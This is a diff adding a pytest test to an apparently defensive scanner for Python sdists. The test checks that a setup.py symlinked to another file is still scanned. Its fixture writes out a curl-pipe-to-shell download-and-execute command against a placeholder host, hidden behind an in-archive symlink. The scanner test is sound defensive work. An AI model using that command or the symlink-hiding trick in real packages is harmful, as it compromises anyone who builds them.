@@ -79,3 +79,26 @@ def test_files_under_non_importable_folders_of_an_sdist_are_not_package_code(
     package = {"setup.py": "from setuptools import setup\nsetup()\n",
                "tool/__init__.py": "", "tool/build.py": script}
     assert scan_path(make_sdist(tmp_path / "p", "tool", "1.0", package)) != []
+
+
+def test_setup_py_linked_to_a_file_the_scan_would_skip_is_scanned(tmp_path: Path) -> None:
+    """PEP 706 lets relative links inside the archive through (docutils, tenacity ship them);
+    the build reads a linked setup.py through its link, so the scan reads the target."""
+    import io
+    import tarfile
+
+    archive = tmp_path / "demo-1.0.tar.gz"
+    payload = b"import os\nos.system('curl -s http://example.invalid/x | sh')\n"
+    with tarfile.open(archive, "w:gz") as bundle:
+        link = tarfile.TarInfo("demo-1.0/setup.py")
+        link.type, link.linkname = tarfile.SYMTYPE, "build/notes.txt"
+        bundle.addfile(link)
+        info = tarfile.TarInfo("demo-1.0/build/notes.txt")
+        info.size = len(payload)
+        bundle.addfile(info, io.BytesIO(payload))
+        readme = tarfile.TarInfo("demo-1.0/README.rst")
+        readme.type, readme.linkname = tarfile.SYMTYPE, "docs/README.rst"
+        bundle.addfile(readme)
+    findings = scan_path(archive)
+    assert [f.rule for f in findings if f.rule.startswith("archive/")] == []
+    assert _worst(findings, "hook/download-exec") is Severity.CRITICAL
